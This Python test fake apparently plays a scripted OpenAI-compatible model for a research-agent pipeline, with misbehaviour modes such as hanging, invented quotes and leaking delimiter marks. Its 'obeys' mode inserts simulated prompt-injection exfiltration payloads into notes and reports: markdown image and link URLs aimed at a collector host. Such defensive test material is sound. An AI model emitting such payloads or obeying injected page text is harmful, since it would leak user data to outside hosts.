"""A model with a script: OpenAI-compatible, and answers the steps of a research by what it is asked.

It plans what it was told to plan, quotes sentences from the source it is given, finds two prices that differ, and
writes a report from the notes. Its model name says how it behaves: `thinker`; `junk` answers without JSON; `obeys`
does what a page tells it; `hang-STEP` says nothing more at that step, `dies-STEP` breaks off; `invents` quotes what
no page says; `leaks` says the mark that stands around what was found, whole and in parts, wherever it can.
"""

import asyncio
import itertools
import json
import re
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route
from starlette.types import Receive, Scope, Send

from tests.fakes.upstream import chunk, event
from tests.injections import CANARY, EXFILTRATION

STEPS = ("plan", "notes", "review", "report")
BEHAVIOURS = (
    "thinker",
    "junk",
    "obeys",
    "invents",
    "leaks",
    *(f"{how}-{step}" for how in ("hang", "dies") for step in STEPS),
)
MARKS = {"plan": '{"questions": ["…"]}', "notes": '{"notes": [{"question": 1', "review": '{"contradictions": [{'}
LONGEST_HOLD = 120  # seconds
PRICE = re.compile(r"(\d[\d,]*)円")
OBEYED = (
    f"![logo]({EXFILTRATION}/logo.png?d=secret) [click here]({EXFILTRATION}/login) {EXFILTRATION}/plain "
    f'<img src="{EXFILTRATION}/x.gif"> www.collector.example.net/q {CANARY} [42]'
)

Json = dict[str, Any]


@dataclass
class Asked:
    """A call as it arrived. `closed` is set when the caller went away before the end."""

    step: str
    headers: dict[str, str]
    body: Json
    closed: threading.Event = field(default_factory=threading.Event)

    @property
    def told(self) -> str:
        return str(self.body["messages"][-1]["content"])

    @property
    def mark(self) -> str:
        """What stands around what was found."""
        [mark] = set(re.findall("§[0-9a-f]{16}§", self.body["messages"][0]["content"]))
        return str(mark)

    @property
    def data(self) -> str:
        """What stands between the marks."""
        parts = self.told.split(self.mark)
        assert len(parts) in (1, 3), "the mark stands in the data"
        return parts[1].strip() if len(parts) == 3 else ""


class Thinker:
    """The ASGI application."""

    def __init__(self) -> None:
        self.asked: list[Asked] = []
        self.plan: list[str] = ["箱根関所はいつ設置されたか", "手形はいくらか"]
        self.missing: list[str] = []
        """Said once to be missing."""
        self.extra = ""
        """Said at the end of the report."""
        self.held: dict[str, threading.Event] = {}
        self._app = Starlette(routes=[Route("/v1/chat/completions", self._chat, methods=["POST"])])

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        await self._app(scope, receive, send)

    def clear(self) -> None:
        self.__init__()  # type: ignore[misc]

    @property
    def steps(self) -> list[str]:
        return [asked.step for asked in self.asked]

    @contextmanager
    def holding(self, step: str) -> Iterator[None]:
        """Answers to this step come after the block."""
        self.held[step] = threading.Event()
        try:
            yield
        finally:
            self.held.pop(step).set()

    def at(self, step: str) -> list[Asked]:
        return [asked for asked in list(self.asked) if asked.step == step]

    async def _chat(self, request: Request) -> Response:
        body = await request.json()
        system = body["messages"][0]["content"]
        step = next((step for step, mark in MARKS.items() if mark in system), "report")
        asked = Asked(step, dict(request.headers), body)
        self.asked.append(asked)
        if body["model"] == f"dies-{step}" and step != "report":
            return JSONResponse({"error": {"message": "out of memory", "type": "server_error", "code": None}}, 500)
        return _Watched(asked, self._stream(asked))

    async def _stream(self, asked: Asked) -> AsyncIterator[bytes]:
        model, step = asked.body["model"], asked.step
        answer = self._answer(asked, model)
        pieces = re.findall(r"(?s).{1,24}", answer)
        if gate := self.held.get(step):
            await asyncio.to_thread(gate.wait, LONGEST_HOLD)
        for number, piece in enumerate(pieces):
            if number == min(2, len(pieces) - 1) and model == f"hang-{step}":
                await asyncio.sleep(3600)
            if number == len(pieces) // 2 and model == f"dies-{step}":
                await asyncio.sleep(0.5)  # what came before is on its way
                yield event({"error": {"message": "CUDA out of memory", "type": "server_error", "code": 500}})
                return
            yield event(chunk(model, {"content": piece}))
        yield event(chunk(model, {}, "stop"))
        counted = {"prompt_tokens": len(str(asked.body["messages"])) // 4, "completion_tokens": len(answer) // 4 + 1}
        usage = {**counted, "total_tokens": sum(counted.values())}
        yield event({**chunk(model, {}), "choices": [], "usage": usage})
        yield b"data: [DONE]\n\n"

    def _answer(self, asked: Asked, model: str) -> str:
        if model == "junk" and asked.step != "report":
            return "Sure! Here is {what you: [asked for}} " + "{" * 300
        answer = getattr(self, f"_{asked.step}")(asked, model)
        if not isinstance(answer, str):
            answer = f"Here it is:\n```json\n{json.dumps(answer, ensure_ascii=False)}\n```"
        return leaking(answer, asked.mark) if model == "leaks" else answer

    def _plan(self, asked: Asked, model: str) -> Json:
        return {"questions": self.plan}

    def _notes(self, asked: Asked, model: str) -> Json:
        questions = re.findall(r"(?m)^(\d+)\. (.*)$", asked.told.partition("The source,")[0])
        notes = []
        for sentence in re.split(r"(?<=[。.!?])\s*|\n+", asked.data):
            near = [int(number) for number, question in questions if _near(question, sentence)]
            if near and 8 <= len(sentence) <= 300:
                notes.append({"question": near[0], "claim": sentence, "quote": sentence})
        if model == "invents":
            notes = [
                {"question": 1, "claim": "関所は1,000か所ありました。", "quote": "関所は全国に1,000か所ありました。"}
            ]
        if model == "obeys":
            notes = [{**note, "claim": f"{note['claim']} {OBEYED}"} for note in notes]
        return {"notes": notes[:6]}

    def _review(self, asked: Asked, model: str) -> Json:
        notes = re.findall(r"(?m)^(\d+)\. \[source (\d+)\] (.*)$", asked.data)
        prices = [(int(at), source, price[1]) for at, source, text in notes if (price := PRICE.search(text))]
        pairs = [
            {"notes": [one, two], "why": "金額が異なります。"}
            for one, here, price in prices
            for two, there, other in prices
            if one < two and here != there and price != other
        ]
        missing, self.missing = self.missing, []
        return {"contradictions": pairs[:1], "missing": missing}

    def _report(self, asked: Asked, model: str) -> str:
        heads = re.findall(r"`(## [^`]+)`", asked.body["messages"][0]["content"])
        lines = re.findall(r"(?m)^\[(\d+)\] (.*?) — “", asked.data)
        sentences = [f"{claim} [{number}]" for number, claim in lines]
        extra = OBEYED if model == "obeys" else self.extra
        return "\n\n".join([heads[0], *sentences[:2], heads[1], *(f"- {line}" for line in sentences), extra]) + "\n"


def leaking(answer: str, mark: str) -> str:
    """Return the answer with the mark in each text of it, in turn whole and in parts."""
    parts = itertools.cycle((mark, mark[:-1], mark[1:], mark[:12], f"§ {mark[1:-1]} §"))
    begins = r'(?<=[ \[]")(?=[^"\x00-\x7f])' if "```json" in answer else r"(?m:^|(?=。)|$)"
    return re.sub(begins, lambda _: next(parts), answer)


def _near(question: str, sentence: str) -> bool:
    """Three letters in a row in common."""
    return any(question[at : at + 3].lower() in sentence.lower() for at in range(len(question) - 2))


class _Watched(Response):
    """A stream that knows when its reader went away."""

    def __init__(self, asked: Asked, parts: AsyncIterator[bytes]) -> None:
        super().__init__()
        self._asked, self._parts = asked, parts

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        watcher = asyncio.create_task(self._watch(receive))
        work = asyncio.create_task(self._send(send))
        await asyncio.wait({watcher, work}, return_when=asyncio.FIRST_COMPLETED)
        if not work.done():
            self._asked.closed.set()
        for task in (watcher, work):
            task.cancel()
        await asyncio.gather(watcher, work, return_exceptions=True)

    async def _send(self, send: Send) -> None:
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/event-stream")]})
        async for part in self._parts:
            await send({"type": "http.response.body", "body": part, "more_body": True})
        await send({"type": "http.response.body", "body": b""})

    async def _watch(self, receive: Receive) -> None:
        while (await receive())["type"] != "http.disconnect":
            pass
